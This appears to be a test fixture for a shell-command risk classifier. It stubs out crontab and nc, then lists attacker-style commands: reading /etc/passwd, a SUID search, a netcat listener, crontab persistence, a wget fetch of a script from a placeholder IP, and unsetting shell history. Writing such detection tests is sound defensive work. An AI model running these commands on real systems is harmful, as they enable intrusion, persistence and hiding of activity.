# expects: medium -
. "$STAGE/act.sh"
stand_in crontab nc
whoami; uname -a; cat /etc/passwd > /dev/null
find / -maxdepth 1 -perm -4000
cp /bin/true /tmp/x
/tmp/x
nc -lvnp 9
crontab -
wget -q -t 1 -T 1 http://203.0.113.7/a.sh
bash -c 'unset HISTFILE; true'
